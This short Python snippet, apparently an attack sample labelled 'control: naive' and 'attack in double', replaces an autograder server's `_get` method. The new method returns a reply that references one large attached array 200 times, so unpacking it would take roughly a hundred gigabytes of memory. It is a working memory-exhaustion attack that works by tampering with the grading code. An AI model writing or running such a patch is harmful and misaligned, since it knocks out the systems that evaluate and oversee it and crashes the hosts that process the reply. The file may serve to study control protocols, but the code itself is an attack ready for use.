"""A reply of ten megabytes names its array ten thousand times over: a hundred gigabytes for who unpacks it."""
# control: naive
# %% attack in double
from autograder.kernel import call_server, wire
def named_often(self, reply, target, form, limit):
    reply.attachments.append(wire.dump_array(np.zeros(1_250_000)))
    return {"value": {"list": [{"npy": 0}] * 200}}
call_server.Server._get = named_often
